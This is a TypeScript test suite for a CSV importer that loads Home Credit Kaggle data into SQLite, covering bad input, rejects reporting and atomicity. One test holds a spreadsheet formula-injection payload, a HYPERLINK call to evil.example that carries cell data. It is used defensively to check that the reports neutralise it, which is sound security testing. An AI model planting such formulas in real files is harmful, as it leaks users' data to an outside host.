import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ImportError,
  importCsvFolder,
  type ImportSummary,
} from '../../../../src-main/data/import/importer.ts';
import { tableSpec, tables } from '../../../../src-main/data/schema.ts';

const SAMPLE = resolve(__dirname, '../../../../../shared/data/home-credit-sample');
const REPO = resolve(__dirname, '../../../..');
const EXPECTED_SAMPLE_ROWS: Record<string, number> = {
  application: 1000,
  bureau: 3435,
  bureau_balance: 3622,
  previous_application: 1000,
  POS_CASH_balance: 626,
  installments_payments: 7347,
  credit_card_balance: 86,
};

let work: string;
/** A base holding the first 50 sample applications and their bureau rows: the "previous database". */
let previousBase: string;

function sampleLines(file: string, rows: number): string[] {
  return readFileSync(join(SAMPLE, file), 'utf8')
    .split('\n')
    .slice(0, rows + 1);
}

function folder(files: Record<string, string | Buffer>): string {
  const dir = mkdtempSync(join(work, 'csv-'));
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  return dir;
}

function freshCopyOfPreviousBase(): string {
  const dir = mkdtempSync(join(work, 'base-'));
  const path = join(dir, 'base.sqlite');
  copyFileSync(previousBase, path);
  return path;
}

function hash(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

function count(db: string, table: string): number {
  const conn = new Database(db, { readonly: true });
  try {
    return conn.prepare(`SELECT COUNT(*) FROM "${table}"`).pluck().get() as number;
  } finally {
    conn.close();
  }
}

function rejectsOf(summary: ImportSummary): Record<string, string>[] {
  return parse(readFileSync(summary.rejectsPath), { columns: true }) as Record<string, string>[];
}

function tableSummary(summary: ImportSummary, table: string) {
  const found = summary.tables.find((t) => t.table === table);
  if (!found) throw new Error(`no summary for ${table}`);
  return found;
}

/** Import into a copy of the previous base; expect it to fail, and the base to be byte for byte unchanged. */
async function expectRefused(files: Record<string, string | Buffer>, message: RegExp): Promise<void> {
  const db = freshCopyOfPreviousBase();
  const before = hash(db);
  await expect(importCsvFolder({ dir: folder(files), dbPath: db })).rejects.toThrow(message);
  expect(hash(db)).toBe(before);
  expect(readdirSync(join(db, '..')).filter((f) => f.includes('.tmp'))).toEqual([]);
}

const APP_HEADER = sampleLines('application_train.csv', 0)[0]!;
const appRows = sampleLines('application_train.csv', 200).slice(1);
/** Application rows not yet in the previous base (it holds the first 50). */
const newAppRows = appRows.slice(50, 60);

function appFile(rows: string[], header = APP_HEADER): string {
  return [header, ...rows].join('\n') + '\n';
}

/** Replaces the field of `column` in a sample application row (no quoted commas precede the columns used). */
function withField(row: string, column: string, value: string): string {
  const fields = parse(row)[0] as string[];
  const header = APP_HEADER.split(',');
  fields[header.indexOf(column)] = value;
  return fields.map((f) => (/[",\n]/.test(f) ? `"${f.replaceAll('"', '""')}"` : f)).join(',');
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'scoring-desk-import-'));
  const seedDir = folder({
    'application_train.csv': appFile(appRows.slice(0, 50)),
    'bureau.csv': sampleLines('bureau.csv', 100).join('\n'),
  });
  previousBase = join(work, 'previous.sqlite');
  await importCsvFolder({ dir: seedDir, dbPath: previousBase });
});

afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('importing the real Kaggle sample', () => {
  let summary: ImportSummary;
  let db: string;
  beforeAll(async () => {
    db = join(mkdtempSync(join(work, 'sample-')), 'sample.sqlite');
    summary = await importCsvFolder({ dir: SAMPLE, dbPath: db });
  });

  it('imports every row of every table, with no reject', () => {
    for (const [table, rows] of Object.entries(EXPECTED_SAMPLE_ROWS)) {
      const t = tableSummary(summary, table);
      expect({ table, read: t.rowsRead, imported: t.imported, rejected: t.rejected }).toEqual({
        table,
        read: rows,
        imported: rows,
        rejected: 0,
      });
      expect(count(db, table)).toBe(rows);
    }
    expect(summary.ignoredFiles).toEqual(['HomeCredit_columns_description.csv']);
    expect(rejectsOf(summary)).toEqual([]);
  });

  it('stores every cell exactly as the CSV says (checked against csv-parse)', () => {
    const conn = new Database(db, { readonly: true });
    try {
      for (const table of tables) {
        const csv = parse(readFileSync(join(SAMPLE, table.files[0]!.name)), {
          columns: true,
          bom: true,
        }) as Record<string, string>[];
        // Keyed tables are stored in key order (the key is the rowid); the others in file order.
        const order = table.primaryKey ? `"${table.primaryKey}"` : 'rowid';
        const stored = conn.prepare(`SELECT * FROM "${table.name}" ORDER BY ${order}`).all() as Record<
          string,
          unknown
        >[];
        if (table.primaryKey) csv.sort((a, b) => Number(a[table.primaryKey!]) - Number(b[table.primaryKey!]));
        expect(stored.length, table.name).toBe(csv.length);
        csv.forEach((row, i) => {
          for (const column of table.columns) {
            const text = row[column.name] ?? '';
            const expected = text === '' ? null : column.type === 'category' ? text : Number(text);
            if (stored[i]![column.name] !== expected) {
              throw new Error(
                `${table.name} row ${i} ${column.name}: ${String(stored[i]![column.name])} != ${text}`,
              );
            }
          }
        });
      }
    } finally {
      conn.close();
    }
  });

  it('stores integers as INTEGER and amounts as REAL, with indexes on the join keys', () => {
    const conn = new Database(db, { readonly: true });
    try {
      expect(
        conn
          .prepare('SELECT typeof(DAYS_REGISTRATION), typeof(AMT_CREDIT) FROM application LIMIT 1')
          .raw()
          .get(),
      ).toEqual(['integer', 'real']);
      const indexes = conn
        .prepare(
          "SELECT tbl_name || '.' || name FROM sqlite_master WHERE type = 'index' AND name LIKE 'idx_%'",
        )
        .pluck()
        .all();
      expect(indexes.length).toBe(tables.reduce((n, t) => n + t.indexes.length, 0));
      expect(conn.pragma('integrity_check', { simple: true })).toBe('ok');
      expect(conn.pragma('journal_mode', { simple: true })).toBe('wal');
    } finally {
      conn.close();
    }
  });

  it('counts history rows whose client is not in the base as orphans, and keeps them', () => {
    // The sample's previous applications are drawn independently of its applicants (see its README).
    expect(tableSummary(summary, 'previous_application').orphans).toBeGreaterThan(900);
    expect(tableSummary(summary, 'application').orphans).toBe(0);
  });
});

describe('bad input', () => {
  it('a missing required column stops the import, naming the file and the column', async () => {
    const header = APP_HEADER.replace(',AMT_ANNUITY,', ',');
    const rows = newAppRows.map((r) => {
      const f = parse(r)[0] as string[];
      f.splice(APP_HEADER.split(',').indexOf('AMT_ANNUITY'), 1);
      return f.map((x) => (x.includes(',') ? `"${x}"` : x)).join(',');
    });
    await expectRefused(
      { 'application_train.csv': appFile(rows, header) },
      /application_train\.csv.*AMT_ANNUITY/,
    );
  });

  it('an empty file stops the import and says so', async () => {
    await expectRefused({ 'bureau.csv': '' }, /bureau\.csv: the file is empty/);
  });

  it('a file that is not UTF-8 stops the import', async () => {
    const latin1 = Buffer.concat([Buffer.from(appFile(newAppRows.slice(0, 2))), Buffer.from([0xe9, 0x0a])]);
    await expectRefused({ 'application_train.csv': latin1 }, /not valid UTF-8/);
  });

  it('a folder without any Kaggle file is refused', async () => {
    await expectRefused({ 'notes.txt': 'hello', 'other.csv': 'a,b\n1,2\n' }, /no Home Credit CSV file/);
  });

  it('a header naming the same column twice is refused', async () => {
    const header = 'SK_ID_BUREAU,SK_ID_BUREAU,MONTHS_BALANCE,STATUS';
    await expectRefused({ 'bureau_balance.csv': `${header}\n1,1,-1,C\n` }, /SK_ID_BUREAU appears twice/);
  });

  it('a truncated last row is rejected with its line; the rows before it are imported', async () => {
    const db = freshCopyOfPreviousBase();
    const lastRow = newAppRows[9]!;
    const cut = lastRow.slice(0, 40);
    const text = appFile(newAppRows.slice(0, 9)) + cut;
    const summary = await importCsvFolder({ dir: folder({ 'application_train.csv': text }), dbPath: db });
    expect(tableSummary(summary, 'application')).toMatchObject({ rowsRead: 10, imported: 9, rejected: 1 });
    expect(rejectsOf(summary)).toEqual([
      expect.objectContaining({
        file: 'application_train.csv',
        line: '11',
        reason: `expected 122 fields, found ${cut.split(',').length}`,
      }),
    ]);
    expect(count(db, 'application')).toBe(59);
  });

  it('text in a numeric column rejects the row, naming line, column and value', async () => {
    const db = freshCopyOfPreviousBase();
    const rows = [
      ...newAppRows.slice(0, 3),
      withField(newAppRows[3]!, 'AMT_CREDIT', 'douze mille'),
      ...newAppRows.slice(4),
    ];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    expect(rejectsOf(summary)).toEqual([
      {
        file: 'application_train.csv',
        line: '5',
        column: 'AMT_CREDIT',
        value: 'douze mille',
        reason: 'not a number',
      },
    ]);
    expect(count(db, 'application')).toBe(59);
  });

  it('the rejects report quotes a rejected formula so that no spreadsheet runs it', async () => {
    const db = freshCopyOfPreviousBase();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")';
    const rows = [
      withField(newAppRows[0]!, 'AMT_CREDIT', formula),
      withField(newAppRows[1]!, 'DAYS_BIRTH', '-12000.5'),
    ];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    expect(rejectsOf(summary).map((r) => [r.line, r.column, r.value])).toEqual([
      ['2', 'AMT_CREDIT', `'${formula}`],
      ['3', 'DAYS_BIRTH', '-12000.5'],
    ]);
  });

  it('a decimal in an integer column, or a TARGET outside 0/1, rejects the row', async () => {
    const db = freshCopyOfPreviousBase();
    const rows = [
      withField(newAppRows[0]!, 'DAYS_BIRTH', '-12000.5'),
      withField(newAppRows[1]!, 'TARGET', '2'),
      newAppRows[2]!,
    ];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    expect(rejectsOf(summary).map((r) => [r.line, r.column, r.reason])).toEqual([
      ['2', 'DAYS_BIRTH', 'not an integer'],
      ['3', 'TARGET', 'outside the allowed range [0, 1]'],
    ]);
  });

  it('an empty key rejects the row', async () => {
    const db = freshCopyOfPreviousBase();
    const rows = [withField(newAppRows[0]!, 'SK_ID_CURR', ''), newAppRows[1]!];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    expect(rejectsOf(summary)).toEqual([
      expect.objectContaining({ line: '2', column: 'SK_ID_CURR', reason: 'missing value for a key column' }),
    ]);
  });

  it('a duplicate key, in the file or already in the base, rejects the later row', async () => {
    const db = freshCopyOfPreviousBase();
    const rows = [newAppRows[0]!, newAppRows[1]!, newAppRows[0]!, appRows[0]!];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    const id = (row: string) => row.split(',')[0];
    expect(rejectsOf(summary).map((r) => [r.line, r.column, r.value])).toEqual([
      ['4', 'SK_ID_CURR', id(newAppRows[0]!)],
      ['5', 'SK_ID_CURR', id(appRows[0]!)],
    ]);
    expect(tableSummary(summary, 'application')).toMatchObject({ imported: 2, rejected: 2 });
    expect(count(db, 'application')).toBe(52);
  });

  it('a row with too many fields is rejected', async () => {
    const db = freshCopyOfPreviousBase();
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile([newAppRows[0]! + ',extra', newAppRows[1]!]) }),
      dbPath: db,
    });
    expect(rejectsOf(summary)).toEqual([
      expect.objectContaining({ line: '2', reason: 'expected 122 fields, found 123' }),
    ]);
  });

  it('an unknown categorical level is kept and reported per column and level', async () => {
    const db = freshCopyOfPreviousBase();
    const rows = [
      withField(newAppRows[0]!, 'NAME_INCOME_TYPE', 'Freelance'),
      withField(newAppRows[1]!, 'NAME_INCOME_TYPE', 'Freelance'),
      newAppRows[2]!,
    ];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    expect(tableSummary(summary, 'application')).toMatchObject({ imported: 3, rejected: 0, warned: 2 });
    expect(tableSummary(summary, 'application').unknownLevels).toEqual([
      { column: 'NAME_INCOME_TYPE', level: 'Freelance', count: 2 },
    ]);
  });

  it('a huge field rejects its row without stopping the import', async () => {
    const db = freshCopyOfPreviousBase();
    const rows = [withField(newAppRows[0]!, 'OCCUPATION_TYPE', 'x'.repeat(200_000)), newAppRows[1]!];
    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(rows) }),
      dbPath: db,
    });
    expect(rejectsOf(summary)).toEqual([
      expect.objectContaining({ line: '2', reason: 'field longer than 65536 characters' }),
    ]);
    expect(count(db, 'application')).toBe(51);
  });

  it('an unterminated quote rejects the last record', async () => {
    const db = freshCopyOfPreviousBase();
    const text = 'SK_ID_BUREAU,MONTHS_BALANCE,STATUS\n5001,-1,C\n5001,-2,"C\n';
    const summary = await importCsvFolder({ dir: folder({ 'bureau_balance.csv': text }), dbPath: db });
    expect(rejectsOf(summary)).toEqual([
      expect.objectContaining({ line: '3', reason: 'quoted field not closed before the end of the file' }),
    ]);
    expect(tableSummary(summary, 'bureau_balance').imported).toBe(1);
  });

  it('an extra column is reported and ignored', async () => {
    const db = freshCopyOfPreviousBase();
    const text = 'SK_ID_BUREAU,MONTHS_BALANCE,STATUS,COMMENT\n5001,-1,C,ok\n5001,-2,0,"late, then paid"\n';
    const summary = await importCsvFolder({ dir: folder({ 'bureau_balance.csv': text }), dbPath: db });
    expect(tableSummary(summary, 'bureau_balance')).toMatchObject({
      imported: 2,
      unknownColumns: [{ file: 'bureau_balance.csv', columns: ['COMMENT'] }],
    });
  });

  it('reads a BOM, CRLF line ends, quoted commas and any letter case in the file name', async () => {
    const db = join(mkdtempSync(join(work, 'bom-')), 'base.sqlite');
    const text = '\uFEFF' + appFile(newAppRows).replaceAll('\n', '\r\n');
    expect(text).toContain('"Stone, brick"');
    const summary = await importCsvFolder({ dir: folder({ 'Application_Train.CSV': text }), dbPath: db });
    expect(tableSummary(summary, 'application')).toMatchObject({ rowsRead: 10, imported: 10, rejected: 0 });
    const conn = new Database(db, { readonly: true });
    const suites = conn
      .prepare("SELECT COUNT(*) FROM application WHERE WALLSMATERIAL_MODE = 'Stone, brick'")
      .pluck()
      .get();
    conn.close();
    expect(suites).toBe(newAppRows.filter((r) => r.includes('"Stone, brick"')).length);
  });

  it('application_test rows come in without TARGET, as pending applications', async () => {
    const db = freshCopyOfPreviousBase();
    const header = APP_HEADER.replace(',TARGET', '');
    const rows = newAppRows.slice(0, 3).map((r) => {
      const f = parse(r)[0] as string[];
      f.splice(1, 1);
      return f.map((x) => (x.includes(',') ? `"${x}"` : x)).join(',');
    });
    await importCsvFolder({ dir: folder({ 'application_test.csv': appFile(rows, header) }), dbPath: db });
    expect(count(db, 'application')).toBe(53);
    const conn = new Database(db, { readonly: true });
    expect(conn.prepare('SELECT COUNT(*) FROM application WHERE TARGET IS NULL').pluck().get()).toBe(3);
    conn.close();
  });

  it('a header-only file imports nothing and succeeds', async () => {
    const db = freshCopyOfPreviousBase();
    const summary = await importCsvFolder({
      dir: folder({ 'credit_card_balance.csv': sampleLines('credit_card_balance.csv', 0).join('\n') }),
      dbPath: db,
    });
    expect(tableSummary(summary, 'credit_card_balance')).toMatchObject({ rowsRead: 0, imported: 0 });
  });
});

describe('atomicity', () => {
  it('a failure in a later file leaves the base untouched, even after earlier files loaded', async () => {
    await expectRefused(
      {
        'application_train.csv': appFile(newAppRows),
        'bureau.csv': 'SK_ID_CURR,SK_ID_BUREAU\n1,2\n',
      },
      /bureau\.csv: required columns missing/,
    );
  });

  it('a base killed mid-import (kill -9) is intact, and the next import cleans up and succeeds', async () => {
    const db = freshCopyOfPreviousBase();
    const before = hash(db);
    const dir = mkdtempSync(join(work, 'big-'));
    const header = tableSpec('installments_payments')
      .columns.map((c) => c.name)
      .join(',');
    const lines = [header];
    for (let i = 0; i < 1_500_000; i++) {
      lines.push(
        `${1_000_000 + (i >> 3)},${100_002 + (i >> 5)},1,${(i & 7) + 1},-${i % 3000},-${i % 2990},1000.5,1000.5`,
      );
    }
    writeFileSync(join(dir, 'installments_payments.csv'), lines.join('\n'));

    const child = spawn(process.execPath, [join(REPO, 'bin/scoring-desk.js'), 'import', dir, '--db', db], {
      stdio: 'ignore',
    });
    const baseDir = join(db, '..');
    // The working copy appears once the import has started loading; the load of 1.5 M rows lasts seconds.
    const working = () => readdirSync(baseDir).some((f) => f.endsWith('.tmp') && f.includes('.import-'));
    const deadline = Date.now() + 60_000;
    while (!working() && Date.now() < deadline) await new Promise((r) => setTimeout(r, 10));
    expect(working()).toBe(true);
    await new Promise((r) => setTimeout(r, 300));
    expect(child.exitCode, 'the import was still running when killed').toBeNull();
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));

    expect(hash(db)).toBe(before);
    const conn = new Database(db, { readonly: true });
    expect(conn.pragma('integrity_check', { simple: true })).toBe('ok');
    conn.close();
    expect(readdirSync(baseDir).some((f) => f.includes('.import-'))).toBe(true);

    const summary = await importCsvFolder({
      dir: folder({ 'application_train.csv': appFile(newAppRows) }),
      dbPath: db,
    });
    expect(tableSummary(summary, 'application').imported).toBe(10);
    expect(readdirSync(baseDir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('refuses a base file that is not a database, leaving it as it was', async () => {
    const dir = mkdtempSync(join(work, 'notdb-'));
    const db = join(dir, 'base.sqlite');
    writeFileSync(db, 'this is not a database');
    await expect(
      importCsvFolder({ dir: folder({ 'application_train.csv': appFile(newAppRows) }), dbPath: db }),
    ).rejects.toThrow(ImportError);
    expect(readFileSync(db, 'utf8')).toBe('this is not a database');
  });

  it('creates the base when it does not exist, but not its folder', async () => {
    const missing = join(work, 'no-such-folder', 'base.sqlite');
    await expect(
      importCsvFolder({ dir: folder({ 'application_train.csv': appFile(newAppRows) }), dbPath: missing }),
    ).rejects.toThrow(/folder of the client base does not exist/);
    expect(existsSync(missing)).toBe(false);
    mkdirSync(join(work, 'fresh'));
    const created = join(work, 'fresh', 'base.sqlite');
    await importCsvFolder({ dir: folder({ 'application_train.csv': appFile(newAppRows) }), dbPath: created });
    expect(count(created, 'application')).toBe(10);
  });
});
